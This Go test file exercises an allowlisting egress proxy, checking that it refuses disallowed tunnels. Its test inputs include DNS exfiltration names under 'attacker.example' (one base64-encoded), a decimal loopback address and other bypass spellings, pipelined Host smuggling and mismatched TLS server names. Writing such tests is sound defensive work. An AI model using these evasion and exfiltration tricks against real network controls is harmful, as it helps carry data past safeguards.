package egress

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// rawProxy serves p on a Unix socket and returns a dialer of raw
// connections to it.
func rawProxy(t *testing.T, p *Proxy) func() net.Conn {
	t.Helper()
	sock := serveOn(t, p)
	return func() net.Conn {
		c, err := net.Dial("unix", sock)
		if err != nil {
			t.Fatal(err)
		}
		c.SetDeadline(time.Now().Add(20 * time.Second))
		t.Cleanup(func() { c.Close() })
		return c
	}
}

// serveOn serves p on a Unix socket until the test ends and returns its path.
func serveOn(t *testing.T, p *Proxy) string {
	t.Helper()
	sock := filepath.Join(t.TempDir(), "p.sock")
	ln, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	go p.Serve(ctx, ln)
	return sock
}

// backend is a TCP server on loopback that each dial of the proxy reaches;
// hits counts the requests it answered, by Host.
type backend struct {
	addr string
	hits atomic.Int64
	seen chan string
}

func newBackend(t *testing.T, banner string) *backend {
	b := &backend{seen: make(chan string, 64)}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	b.addr = ln.Addr().String()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				if banner != "" {
					c.Write([]byte(banner))
				}
				r := bufio.NewReader(c)
				for {
					req, err := http.ReadRequest(r)
					if err != nil {
						return
					}
					io.Copy(io.Discard, req.Body)
					b.hits.Add(1)
					b.seen <- req.Host
					fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Length: 12\r\n\r\nhello %s", "world!")
				}
			}()
		}
	}()
	return b
}

func proxyTo(t *testing.T, b *backend, pol *Policy, resolved *atomic.Int64) *Proxy {
	return &Proxy{Policy: pol,
		Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
			if resolved != nil {
				resolved.Add(1)
			}
			return []netip.Addr{public}, nil
		},
		Dial: func(ctx context.Context, _ netip.AddrPort) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, "tcp", b.addr)
		},
	}
}

func rules(t *testing.T, s ...string) *Policy {
	r, err := ParseRules(s)
	if err != nil {
		t.Fatal(err)
	}
	return &Policy{Allow: r}
}

// connect sends a CONNECT and returns the status line.
func connect(t *testing.T, c net.Conn, target string) (string, *bufio.Reader) {
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
	r := bufio.NewReader(c)
	resp, err := http.ReadResponse(r, &http.Request{Method: http.MethodConnect})
	if err != nil {
		t.Fatalf("CONNECT %s: %v", target, err)
	}
	return resp.Status, r
}

func TestTunnelChecks(t *testing.T) {
	b := newBackend(t, "")
	m := NewMeter(0, 0)
	p := proxyTo(t, b, rules(t, "api.example.com:443", "api.example.com:80"), nil)
	p.SetMeter(m)
	dial := rawProxy(t, p)

	t.Run("plain HTTP in a tunnel, each request's Host checked", func(t *testing.T) {
		c := dial()
		status, r := connect(t, c, "api.example.com:80")
		if !strings.HasPrefix(status, "200") {
			t.Fatalf("CONNECT: %s", status)
		}
		// Pipelined: the first names the tunnel's host, the second another.
		fmt.Fprintf(c, "GET /a HTTP/1.1\r\nHost: api.example.com\r\n\r\nGET /b HTTP/1.1\r\nHost: other.example.com\r\n\r\n")
		first, err := http.ReadResponse(r, nil)
		if err != nil || first.StatusCode != 200 {
			t.Fatalf("first: %v %v", first, err)
		}
		io.Copy(io.Discard, first.Body)
		second, err := http.ReadResponse(r, nil)
		if err != nil || second.StatusCode != 403 || !strings.Contains(second.Status, "other.example.com") {
			t.Fatalf("second: %v %v", second, err)
		}
		if got := <-b.seen; got != "api.example.com" {
			t.Errorf("backend saw %q", got)
		}
		if n := b.hits.Load(); n != 1 {
			t.Errorf("backend answered %d requests, want 1", n)
		}
	})

	t.Run("a body sent after 100 Continue", func(t *testing.T) {
		c := dial()
		status, r := connect(t, c, "api.example.com:80")
		if !strings.HasPrefix(status, "200") {
			t.Fatalf("CONNECT: %s", status)
		}
		fmt.Fprintf(c, "POST /up HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 5\r\nExpect: 100-continue\r\n\r\n")
		cont, err := http.ReadResponse(r, nil)
		if err != nil || cont.StatusCode != http.StatusContinue {
			t.Fatalf("want 100 Continue first: %v %v", cont, err)
		}
		c.Write([]byte("hello"))
		resp, err := http.ReadResponse(r, nil)
		if err != nil || resp.StatusCode != 200 {
			t.Fatalf("then the answer: %v %v", resp, err)
		}
		io.Copy(io.Discard, resp.Body)
		<-b.seen
	})

	t.Run("TLS naming another host", func(t *testing.T) {
		c := dial()
		status, _ := connect(t, c, "api.example.com:443")
		if !strings.HasPrefix(status, "200") {
			t.Fatalf("CONNECT: %s", status)
		}
		tc := tls.Client(c, &tls.Config{ServerName: "other.example.com", InsecureSkipVerify: true})
		if err := tc.Handshake(); err == nil {
			t.Fatal("handshake through a tunnel to another name succeeded")
		}
		found := false
		flows, _ := m.Flows()
		for _, f := range flows {
			found = found || strings.Contains(f.Refused, `TLS asks for "other.example.com"`)
		}
		if !found {
			t.Errorf("flows %+v, want the refusal", flows)
		}
	})

	t.Run("absolute form, pipelined", func(t *testing.T) {
		c := dial()
		fmt.Fprintf(c, "GET http://api.example.com/x HTTP/1.1\r\nHost: api.example.com\r\n\r\nGET http://other.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
		r := bufio.NewReader(c)
		first, err := http.ReadResponse(r, nil)
		if err != nil || first.StatusCode != 200 {
			t.Fatalf("first: %v %v", first, err)
		}
		io.Copy(io.Discard, first.Body)
		second, err := http.ReadResponse(r, nil)
		if err != nil || second.StatusCode != 403 {
			t.Fatalf("second: %v %v", second, err)
		}
	})

	t.Run("headers too long", func(t *testing.T) {
		before := b.hits.Load()
		c := dial()
		status, r := connect(t, c, "api.example.com:80")
		if !strings.HasPrefix(status, "200") {
			t.Fatalf("CONNECT: %s", status)
		}
		fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: api.example.com\r\nX-Long: %s\r\n\r\n", strings.Repeat("a", 2*maxHeader))
		resp, err := http.ReadResponse(r, nil)
		if err != nil || resp.StatusCode != 403 {
			t.Fatalf("long header: %v %v", resp, err)
		}
		if b.hits.Load() != before {
			t.Error("the request reached the host")
		}
	})

	t.Run("CONNECT spellings", func(t *testing.T) {
		for _, target := range []string{"api.example.com:22", "other.example.com:443", "2130706433:443", "[::1]:443", "api.example.com:0443"} {
			status, _ := connect(t, dial(), target)
			if !strings.HasPrefix(status, "403") {
				t.Errorf("CONNECT %s: %s", target, status)
			}
		}
	})
}

// TestTunnelServerFirst: a host that speaks first (SSH, SMTP) gets a
// plain tunnel, at once.
func TestTunnelServerFirst(t *testing.T) {
	b := newBackend(t, "SSH-2.0-test\r\n")
	dial := rawProxy(t, proxyTo(t, b, rules(t, "git.example.com:22"), nil))
	c := dial()
	status, r := connect(t, c, "git.example.com:22")
	if !strings.HasPrefix(status, "200") {
		t.Fatalf("CONNECT: %s", status)
	}
	line, err := r.ReadString('\n')
	if err != nil || line != "SSH-2.0-test\r\n" {
		t.Fatalf("banner %q, %v", line, err)
	}
}

// TestNoLookupOfUnlistedNames: a name no rule admits is refused before
// any lookup, so code cannot carry data out in DNS queries.
func TestNoLookupOfUnlistedNames(t *testing.T) {
	var resolved atomic.Int64
	b := newBackend(t, "")
	dial := rawProxy(t, proxyTo(t, b, rules(t, "api.example.com", "10.0.0.0/8"), &resolved))
	for _, target := range []string{"secret-data.attacker.example:443", "c2VjcmV0.attacker.example:80"} {
		if status, _ := connect(t, dial(), target); !strings.HasPrefix(status, "403") {
			t.Errorf("CONNECT %s: %s", target, status)
		}
	}
	if n := resolved.Load(); n != 0 {
		t.Errorf("%d lookups of unlisted names", n)
	}
}

// TestPrivateAddresses: a name that resolves to a private address is
// refused unless it is pinned there or an address rule admits it.
func TestPrivateAddresses(t *testing.T) {
	b := newBackend(t, "")
	private := netip.MustParseAddr("10.9.8.7")
	for _, tc := range []struct {
		pol  *Policy
		want string
	}{
		{rules(t, "api.example.com"), "403"},
		{&Policy{Allow: rules(t, "api.example.com").Allow, Pins: map[string][]netip.Addr{"api.example.com": {private}}}, "200"},
		{rules(t, "api.example.com", "10.0.0.0/8:443"), "200"},
		{&Policy{Allow: rules(t, "api.example.com").Allow, Private: true}, "200"},
	} {
		p := proxyTo(t, b, tc.pol, nil)
		p.Resolve = func(context.Context, string) ([]netip.Addr, error) { return []netip.Addr{private}, nil }
		if status, _ := connect(t, rawProxy(t, p)(), "api.example.com:443"); !strings.HasPrefix(status, tc.want) {
			t.Errorf("policy %+v: %s, want %s", tc.pol, status, tc.want)
		}
	}
}

// TestTunnelTLSToAddress: a CONNECT to an address takes no TLS server
// name: one would reach a named site behind that address.
func TestTunnelTLSToAddress(t *testing.T) {
	b := newBackend(t, "")
	m := NewMeter(0, 0)
	p := proxyTo(t, b, rules(t, "203.0.113.7:443"), nil)
	p.SetMeter(m)
	c := rawProxy(t, p)()
	if status, _ := connect(t, c, "203.0.113.7:443"); !strings.HasPrefix(status, "200") {
		t.Fatalf("CONNECT: %s", status)
	}
	tc := tls.Client(c, &tls.Config{ServerName: "other.example.com", InsecureSkipVerify: true})
	if err := tc.Handshake(); err == nil {
		t.Fatal("a TLS name through a tunnel to an address got through")
	}
	flows, _ := m.Flows()
	if len(flows) != 2 || !strings.Contains(flows[1].Refused, "through a tunnel to the address") {
		t.Errorf("flows %+v, want the refusal", flows)
	}
}

// TestHeadersOnlyOn443: a host with headers is intercepted on port 443
// only; elsewhere its tunnel is a plain one, and no header is added.
func TestHeadersOnlyOn443(t *testing.T) {
	b := newBackend(t, "")
	ca, err := NewCA()
	if err != nil {
		t.Fatal(err)
	}
	pol := rules(t, "api.example.com:8080")
	pol.CA, pol.Headers = ca, map[string]http.Header{"api.example.com": {"Authorization": {"secret"}}}
	c := rawProxy(t, proxyTo(t, b, pol, nil))()
	status, r := connect(t, c, "api.example.com:8080")
	if !strings.HasPrefix(status, "200") {
		t.Fatalf("CONNECT: %s", status)
	}
	fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: api.example.com:8080\r\n\r\n")
	resp, err := http.ReadResponse(r, nil)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("plain HTTP through the tunnel: %v %v", resp, err)
	}
}
